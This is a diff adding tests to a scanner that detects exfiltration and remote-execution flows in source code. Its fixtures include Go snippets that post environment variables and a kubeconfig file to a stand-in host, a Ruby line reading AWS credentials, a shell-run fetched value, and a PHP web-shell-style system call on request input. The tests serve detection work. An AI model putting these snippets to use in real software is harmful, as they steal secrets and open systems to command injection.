@@ -309,3 +309,56 @@ send_it.call(File.read(File.join(Dir.home, ".aws", "credentials")))
     assert [(f.line, f.rule) for f in code_flow_findings({"lib/h.rb": ruby})] == [(6, "exfiltration")]
     notes = ruby.replace('File.read(File.join(Dir.home, ".aws", "credentials"))', '"hello"')
     assert code_flow_findings({"lib/h.rb": notes}) == []
+
+
+def test_a_padding_file_does_not_use_up_another_files_walk() -> None:
+    # each file walks on a budget of its own: a large file sorted first cannot hide the next one's flow
+    padding = "package main\n\nvar table = []int{" + ", ".join(["7"] * 60_000) + "}\n"
+    leak = (
+        'package main\n\nimport ("net/http"; "os"; "strings")\n\n'
+        'func main() {\n\thttp.Post("https://c.example/u", "text/plain",\n'
+        '\t\tstrings.NewReader(strings.Join(os.Environ(), ";")))\n}\n'
+    )
+    found = code_flow_findings({"aa_table.go": padding, "zz_main.go": leak})
+    assert [(f.path, f.rule) for f in found] == [("zz_main.go", "exfiltration")]
+
+
+def test_a_helper_called_from_many_places_and_mutual_recursion_stay_bounded() -> None:
+    # a definition is walked again for what its calls newly hand it at most REWALKS times, and a
+    # value keeps at most STRINGS strings: 2,000 distinct call sites and recursion across 20 files end
+    calls = "".join(f'\tlookup("host-{i}.example")\n' for i in range(2_000))
+    go = 'package main\n\nimport "net"\n\nfunc lookup(h string) { net.LookupHost(h) }\n\n'
+    go += "func main() {\n" + calls + "}\n"
+    assert code_flow_findings({"m.go": go}) == []
+    files = {
+        f"f{i}.go": f'package main\n\nfunc f{i}(x string) string {{ return f{(i + 1) % 20}(x + "{i}") }}\n'
+        for i in range(20)
+    }
+    assert code_flow_findings(files) == []
+
+
+def test_what_a_command_is_handed_as_an_argument_is_not_run_as_code() -> None:
+    # an argument vector runs its program: a version fetched from an API handed to `gem install`,
+    # a tag to `git checkout`, a decoded certificate to kubectl, an escaped request value to du
+    ruby = (
+        'require "net/http"\nv = Net::HTTP.get(URI("https://rubygems.org/api/v1/versions/x/latest.json"))\n'
+        'system("gem", "install", "x", "-v", v)\n'
+    )
+    php = "<?php\nexec('du -sh ' . escapeshellarg($_GET['dir']));\nsystem('seq 1 ' . intval($_POST['n']));\n"
+    assert code_flow_findings({"a.rb": ruby, "b.php": php}) == []
+    shell = ruby.replace('system("gem", "install", "x", "-v", v)', 'system("sh", "-c", v)')
+    webshell = "<?php\nsystem('du -sh ' . $_GET['dir']);\n"
+    assert [f.rule for f in code_flow_findings({"a.rb": shell, "b.php": webshell})] == [
+        "remote-exec",
+        "remote-exec",
+    ]
+
+
+def test_a_kubeconfig_read_by_its_path_is_a_credential_and_sshs_config_is_not() -> None:
+    go = (
+        'package main\n\nimport ("bytes"; "net/http"; "os")\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n'
+        '\tb, _ := os.ReadFile(home + "/.kube/config")\n'
+        '\thttp.Post("https://c.example/u", "text/plain", bytes.NewReader(b))\n}\n'
+    )
+    assert [f.rule for f in code_flow_findings({"k.go": go})] == ["exfiltration"]
+    assert code_flow_findings({"k.go": go.replace("/.kube/config", "/.ssh/config")}) == []
